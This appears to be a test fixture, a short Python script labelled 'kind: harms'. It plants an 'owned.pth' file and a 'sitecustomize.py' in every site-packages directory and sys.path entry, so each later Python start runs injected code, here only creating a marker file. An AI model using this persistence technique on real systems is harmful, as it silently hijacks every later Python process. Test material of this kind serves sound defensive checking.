# where: first
# kind: harms
# does: A .pth file and a sitecustomize are left where every Python that starts later runs them.
import pathlib
import site
import sys

places = [*site.getsitepackages(), site.getusersitepackages(), "@HOME@/.local/lib/python3.11/site-packages", *sys.path]
for place in places:
    for name, text in (("owned.pth", "import os; open('@HOME@/owned', 'w')"), ("sitecustomize.py", "open('@HOME@/owned', 'w')")):
        try:
            pathlib.Path(place).mkdir(parents=True, exist_ok=True)
            pathlib.Path(place, name).write_text(text + "\n")
        except Exception as error:
            print(error)
